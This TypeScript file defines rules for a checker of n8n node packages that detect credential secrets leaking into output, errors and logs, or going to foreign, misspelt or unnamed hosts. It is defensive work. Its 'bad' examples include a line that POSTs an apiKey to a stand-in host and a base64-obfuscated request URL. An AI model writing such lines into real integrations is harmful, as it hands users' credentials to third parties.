import { isTypo } from '../../../../../kernel/index.ts';
import { isVariant, type RunOperation } from '../../../behaviour/run-package.ts';
import { filesHost } from '../../../behaviour/simulated/answers.ts';
import { isFailed, type TracedRequest } from '../../../behaviour/trace/request.ts';
import type { Run } from '../../../behaviour/trace/run.ts';
import { credentialOf } from '../../../behaviour/trace/texts.ts';
import { docs } from '../../../docs-links.ts';
import { memoize } from '../../../memoize.ts';
import { type BehaviourRule, overOperations } from '../behaviour-rule.ts';
import { hostOf, rootOf } from '../request-hosts.ts';
import { secretShown } from '../static-faults.ts';

interface Showing extends Pick<BehaviourRule, 'code' | 'title' | 'why' | 'fix' | 'bad' | 'good'> {
  /** Where secrets are shown, as the rule about sources names it. */
  target: string;
  secrets(run: Run): readonly string[];
  /** The stack of the code that shows one. */
  stackOf?: (run: Run) => string | undefined;
  /** What the operation does with the first one, which is the one that is named. */
  says(secret: string): string;
  /** Operations that are there for it, by their names. */
  meant?: RegExp;
}

/** A rule about secrets in what n8n stores of an execution. */
const showsSecret = ({ target, secrets, stackOf, says, meant, ...rule }: Showing) => {
  const firstOf = ({ trace }: RunOperation) => trace.runs.flatMap(secrets)[0];
  return overOperations({
    ...rule,
    severity: 'error',
    docs: docs.credentialFiles,
    kinds: 'all',
    supersededBy: ['security-secret-shown'],
    concerns: (operation) => [secretShown((firstOf(operation) ?? '').split('.')[1] ?? '', target, operation.node.file)],
    fault(operation) {
      const secret = firstOf(operation);
      if (secret === undefined || meant?.test(String(operation.choices.operation))) return undefined;
      const showing = operation.trace.runs.filter((run) => secrets(run).length > 0);
      const always = showing.some((run) => !run.requests.some(isFailed));
      const what = always ? says(secret) : `if a request fails, ${says(secret)}`;
      const stack = showing[0] && stackOf?.(showing[0]);
      return { what, ...(stack !== undefined && { stack }) };
    },
  });
};

export const secretInOutput = showsSecret({
  code: 'behaviour-secret-in-output',
  title: 'Secret of a credential is in the output',
  why: 'n8n stores the output of every execution as plain text, and shows it to everyone who can see the workflow.',
  fix: 'Remove the secret from the output.',
  bad: 'returnData.push({ json: { ...response, request: options } });',
  good: 'returnData.push({ json: response });',
  target: 'the output',
  secrets: ({ outputs = [] }) => outputs.flat().flatMap((output) => output.secrets),
  meant: /^(?:get|create|generate|refresh|issue|exchange)\w*(?:token|secret|credential|password)s?$|token\W?get$/i,
  says: (secret) => `its output contains the secret ${secret}`,
});

export const secretInError = showsSecret({
  code: 'behaviour-secret-in-error',
  title: 'Secret of a credential is in an error',
  why: 'Error messages are stored with the execution, shown to everyone who can see the workflow, and passed to error workflows.',
  fix: 'Name the operation and the status in the error, not the request.',
  bad: "throw new NodeOperationError(this.getNode(), 'Failed: ' + JSON.stringify(options));",
  good: 'throw new NodeApiError(this.getNode(), error);',
  target: 'an error',
  secrets: (run) => run.secrets,
  says: (secret) => `its error message contains the secret ${secret}`,
});

export const secretInLog = showsSecret({
  code: 'behaviour-secret-in-log',
  title: 'Secret of a credential is written to the log',
  why: 'Logs of n8n are stored and forwarded as plain text, to people and systems that may not use the credential.',
  fix: 'Remove the secret from the log, or the whole request that contains it.',
  bad: "this.logger.info('Request: ' + JSON.stringify(options));",
  good: "this.logger.info('Request: ' + options.url);",
  target: 'the log',
  secrets: ({ logged = [] }) => logged,
  stackOf: ({ loggedAt }) => loggedAt,
  says: (secret) => `it writes the secret ${secret} to the log`,
});

export const secretSentElsewhere = overOperations({
  code: 'behaviour-secret-sent-elsewhere',
  title: 'Secret of a credential is sent to another host',
  severity: 'error',
  why: 'Users give a secret to the service of the credential. Whoever runs the other host can use their account.',
  fix: 'Send the secret only to the host of the service.',
  bad: "await this.helpers.httpRequest({ method: 'POST', url: 'https://collect.metrics.example', body: { apiKey } });",
  good: "await this.helpers.httpRequest({ method: 'POST', url: 'https://collect.metrics.example', body: { operation } });",
  docs: docs.credentialFiles,
  kinds: 'all',
  fault({ trace: { runs, borrows } }, _, { isOwn, isUnnamed }) {
    for (const { requests } of runs) {
      for (const request of requests) {
        const { url, secrets, exposed = [] } = request;
        const host = hostOf(url);
        if (secrets.length === 0 || isOwn(host)) continue;
        // A service may have several domains: only what the host of the service gets too, and this one as data, is no doubt.
        const known = requests.filter((one) => isOwn(hostOf(one.url)));
        const secret = exposed.find((one) => known.some((request) => request.secrets.includes(one)));
        const [hidden] = isUnnamed(host) && !borrows ? secrets : [];
        const sent = secret ?? hidden;
        if (sent !== undefined)
          return {
            what: `it sends the secret ${sent} to ${host}, which is not a host of the credential or the node`,
            request,
          };
      }
    }
    return undefined;
  },
});

export const unknownHost = overOperations({
  code: 'behaviour-unknown-host',
  title: 'Request goes to a host that the sources do not name',
  severity: 'warning',
  why: 'Nobody who reads the package, its credentials or its README can tell where data goes.',
  fix: 'Write the URL into the source, or read it from the credential.',
  bad: "url: Buffer.from('aHR0cHM6Ly9hcGkuYWNtZS5leGFtcGxl', 'base64').toString()",
  good: "url: 'https://api.acme.example'",
  docs: docs.verification,
  kinds: 'all',
  fault({ trace: { runs, borrows } }, _, { isOwn, isUnnamed }) {
    const request = runs
      .flatMap(({ requests }) => requests)
      .find(({ secrets, url }) => secrets.length === 0 && isUnnamed(hostOf(url)) && !isOwn(hostOf(url)));
    return request && !borrows
      ? { what: `it sends a request to ${hostOf(request.url)}, which no file of the package names`, request }
      : undefined;
  },
});

/** Operations that send a secret to one host, after which another one is an exception. */
const minSame = 3;

export const hostUnlike = overOperations({
  code: 'behaviour-host-unlike-others',
  title: 'Secret is sent to another host than by all other operations',
  severity: 'warning',
  why: 'All other operations send the secret to a host with the same name in another top-level domain, such as `.io` instead of `.com`, or with a name that differs in one letter, or to the host in the credential, to a URL of the same API; or this is the test of the credential, and no operation sends the secret to its domain; or this operation sends it to a host for tests, such as `staging`, and the others do not. The request fails, or whoever owns the other host gets the secret.',
  fix: 'Correct the host. Keep the base of all URLs in one constant, and use it in the test of the credential too.',
  bad: "test = { request: { baseURL: 'https://api.acme.com', url: '/me' } };   with operations at https://api.acme.io",
  good: "test = { request: { baseURL: 'https://api.acme.io', url: '/me' } };",
  docs: docs.credentialFiles,
  kinds: 'all',
  supersededBy: ['security-undisclosed-host'],
  fault(operation, all) {
    // There, the service may well have another host.
    if (isVariant(operation) && ofPlace.test(operation.change)) return undefined;
    const hosts = [...secretHosts(operation)];
    const known = sendersByHost(all);
    const isOfWebhook = operation.kind === 'webhookMethods';
    const tested = testHost(hosts, known, isOfWebhook);
    if (tested)
      return {
        what: `it sends the secret to the test host ${tested.own}; other ${isOfWebhook ? 'requests' : 'operations'} send it to ${tested.usual}`,
        request: requestTo(tested.own, operation),
      };
    const elsewhere = operation.kind === 'credentialTest' ? testedElsewhere(operation, all) : undefined;
    if (elsewhere)
      return {
        what: `it sends the secret to ${hostOf(elsewhere.url)}; no operation sends it there`,
        request: elsewhere,
      };
    const [own, ...more] = hosts;
    const [twin] = isOfWebhook ? more.filter((host) => own && withoutEnding(host) === withoutEnding(own)) : [];
    if (twin !== undefined) {
      const [first, second] = [own, twin].map((host) => requestTo(host ?? '', operation)?.method);
      return {
        what: `it sends the secret to ${own} (${first}) and to ${twin} (${second})`,
        request: requestTo(twin, operation),
      };
    }
    if (own === undefined || more.length > 0 || (known.get(own) ?? 0) > (isVariant(operation) ? 0 : 1))
      return undefined;
    const others = [...known.keys()].filter((host) => host !== own);
    const [other = ''] = others;
    const request = requestTo(own, operation);
    if (others.length !== 1 || (known.get(other) ?? 0) < minSame) return undefined;
    const isSameApi = ofCredential.test(other) && request && rootsAt(other, all).has(rootOf(request.url));
    if (isSameApi)
      return {
        what: `it sends the secret to ${own}; all other operations send it to the host in the credential`,
        request,
      };
    if (withoutEnding(other) !== withoutEnding(own) && !isMisspelt(own, other)) return undefined;
    return { what: `it sends the secret to ${own}; all other operations send it to ${other}`, request };
  },
});

/** The request of a test with the secret of a credential, to another site than those that all operations send that to. */
function testedElsewhere(test: RunOperation, all: readonly RunOperation[]): TracedRequest | undefined {
  const request = sentBy(test).find(({ secrets }) => secrets.length > 0);
  if (!request) return undefined;
  const credentials = new Set(request.secrets.map(credentialOf));
  const isOfSame = ({ secrets, url }: TracedRequest) =>
    secrets.some((secret) => credentials.has(credentialOf(secret))) && !url.startsWith(filesHost);
  const others = all.filter((one) => one !== test).map((one) => sentBy(one).filter(isOfSame));
  const domains = new Set(others.flat().map(({ url }) => domainOf(hostOf(url))));
  const isKnown = others.filter((sent) => sent.length > 0).length >= minSame;
  return isKnown && !ofCredential.test(hostOf(request.url)) && !domains.has(domainOf(hostOf(request.url)))
    ? request
    : undefined;
}

/** The last two names of a host, by which those of a service are alike. */
const domainOf = (host: string): string => host.split('.').slice(-2).join('.');

/** What users select to reach the service elsewhere. */
const ofPlace =
  /region|domain|cent(?:er|re)|environment|env\b|server|host|country|location|sandbox|test|live|prod|stag|beta|version|api|url|endpoint/i;

/** A host that only the authors of an API use. */
const forTests = /(?:^|[.-])(?:staging|preprod|uat)(?=[.-])|-dev(?=\.)/i;

const withoutTests = (host: string) => host.replace(forTests, '').replace(/^[.-]/, '');

/** The host for tests that secrets are sent to, where at least twice as many operations send them to another one, or other methods of the webhook do. */
function testHost(
  hosts: readonly string[],
  known: ReadonlyMap<string, number>,
  isOfWebhook: boolean,
): { own: string; usual: string } | undefined {
  const own = hosts.find((host) => forTests.test(host));
  const others = [...known].filter(([host]) => host !== own);
  if (own === undefined || others.some(([host]) => forTests.test(host))) return undefined;
  const [usual] =
    others.find(([host, count]) =>
      isOfWebhook ? host === withoutTests(own) : count >= Math.max(minSame, 2 * (known.get(own) ?? 0)),
    ) ?? [];
  return usual === undefined ? undefined : { own, usual };
}

const sentBy = (operation: RunOperation): readonly TracedRequest[] =>
  operation.kind === 'webhookMethods'
    ? operation.trace.runs.flatMap(({ requests }) => requests)
    : (operation.run('plain')?.requests ?? []);

const requestTo = (host: string, operation: RunOperation) => sentBy(operation).find(({ url }) => hostOf(url) === host);

/** A host that users enter in the credential. */
const ofCredential = /(?:^|\.)credential\.example$/;

/** Those of all requests with a secret to a host. */
const rootsAt = (host: string, all: readonly RunOperation[]): ReadonlySet<unknown> =>
  new Set(
    all
      .flatMap(({ run }) => run('plain')?.requests ?? [])
      .flatMap(({ secrets, url }) => (secrets.length > 0 && hostOf(url) === host ? (rootOf(url) ?? []) : [])),
  );

/** The hosts that an operation sends secrets to, without those that the API has named. */
const secretHosts = (operation: RunOperation): ReadonlySet<string> =>
  new Set(
    sentBy(operation).flatMap(({ secrets, url }) =>
      secrets.length > 0 && !url.startsWith(filesHost) ? [hostOf(url)] : [],
    ),
  );

/** The number of operations that send a secret to a host. */
const sendersByHost = memoize((all: readonly RunOperation[]): ReadonlyMap<string, number> => {
  const hosts = all.flatMap((one) => [...secretHosts(one)]);
  return new Map([...Map.groupBy(hosts, String)].map(([host, same]) => [host, same.length]));
});

const withoutEnding = (host: string) => host.replace(/\.[^.]*$/, '');

/** Letters of a name that may be misspelt: in a shorter one, another letter makes another name. */
const minName = 6;

/** Whether two hosts differ in a single letter of the name before the ending; servers have names that are alike: `upload`, `uploads`. */
function isMisspelt(one: string, other: string): boolean {
  const [[name = '', rest], [right = '', otherRest]] = [partsOf(one), partsOf(other)];
  // What differs in a digit or a hyphen is another name too.
  const isAlike = rest === otherRest && name.replace(/[a-z]/g, '') === right.replace(/[a-z]/g, '');
  return isAlike && Math.min(name.length, right.length) >= minName && isTypo(name, right);
}

/** The name before the ending of a host, and the others. */
function partsOf(host: string): [name: string | undefined, rest: string] {
  const names = host.split('.');
  return [names.at(-2), names.toSpliced(-2, 1).join('.')];
}

export const secretInUrl = overOperations({
  code: 'behaviour-secret-in-url',
  title: 'Secret is sent in the URL of an API that takes it in a header',
  severity: 'warning',
  why: 'Servers and proxies log URLs, so the secret ends up in their logs. This is an error if the same request also has the secret in a header; otherwise a warning.',
  fix: 'Send the secret in one place: in a header, if the API takes it there. If the API accepts it only in the URL for this request, leave it there.',
  bad: "qs: { access_token: token },\nheaders: { Authorization: 'Bearer ' + token }",
  good: "headers: { Authorization: 'Bearer ' + token }",
  docs: docs.credentialFiles,
  kinds: 'all',
  // Where others send it in the URL alone, that is where the API takes it.
  isGrave: ({ trace }, all) => doubledIn(trace) !== undefined && !all.some(sendsInUrlAlone),
  onlyUsual: true,
  fault({ trace }, all) {
    const doubled = doubledIn(trace);
    if (doubled !== undefined)
      return `the secret ${doubled} is in a header and in the URL of the same request${all.some(sendsInUrlAlone) ? '; other requests send it in the URL alone' : ''}`;
    for (const request of requestsIn(trace)) {
      const { inUrl = [], method, url } = request;
      const secret = isAboutToken(request)
        ? undefined
        : inUrl.find((name) => inHeaders(all).has(`${hostOf(url)} ${name}`));
      if (secret !== undefined)
        return {
          what: `the secret ${secret} is in the URL of its ${method} request to ${hostOf(url)}; other requests to this host send it in a header`,
          request,
        };
    }
    return undefined;
  },
});

const requestsIn = ({ runs }: RunOperation['trace']) => runs.flatMap(({ requests }) => requests);

const sendsInUrlAlone = ({ trace }: RunOperation): boolean =>
  requestsIn(trace).some(({ inUrl = [], doubled = [] }) => inUrl.some((secret) => !doubled.includes(secret)));

const doubledIn = (trace: RunOperation['trace']) =>
  requestsIn(trace).flatMap((request) => (isAboutToken(request) ? [] : (request.doubled ?? [])))[0];

/** Whether a request asks about the token itself, which is in its URL then. */
const isAboutToken = ({ url }: TracedRequest): boolean => aboutToken.test(new URL(url).pathname);
const aboutToken =
  /\/(?:tokeninfo|token_info|debug_token|introspect\w*)\/?$|\/token\/(?:info|verify|validate|revoke|organization|user|me)\/?$/i;

/** The secrets that requests have in headers, each with the host that it is sent to. */
const inHeaders = memoize((all: readonly RunOperation[]): ReadonlySet<string> => {
  const sent = all.flatMap(({ trace }) => requestsIn(trace));
  const pairs = sent.flatMap(({ secrets, exposed = [], url }) =>
    secrets.filter((one) => !exposed.includes(one)).map((one) => `${hostOf(url)} ${one}`),
  );
  return new Set(pairs);
});

export const instanceSent = overOperations({
  code: 'behaviour-instance-sent',
  title: 'ID of the n8n instance is sent',
  severity: 'warning',
  why: 'The ID identifies the n8n of the user, and lets the receiver track the use of the node. n8n does not verify nodes that collect such data: it is an error unless it goes to the service of the credential.',
  fix: 'Remove the request, or the ID from it.',
  bad: "await this.helpers.httpRequest({ method: 'POST', url, body: { instance: this.getInstanceId() } });",
  good: "await this.helpers.httpRequest({ method: 'POST', url, body });",
  docs: docs.verification,
  kinds: 'all',
  isGrave: ({ trace: { runs } }, _, { isOwn }) =>
    runs.some(({ requests }) => withInstance(requests).some(({ url }) => !isOwn(hostOf(url)))),
  fault({ trace: { runs } }) {
    const [sent] = runs.flatMap(({ requests }) => withInstance(requests));
    return sent && { what: `it sends the ID of the n8n instance to ${hostOf(sent.url)}`, request: sent };
  },
});

const withInstance = (requests: readonly TracedRequest[]) =>
  requests.filter(({ flaws }) => flaws?.includes('instance'));
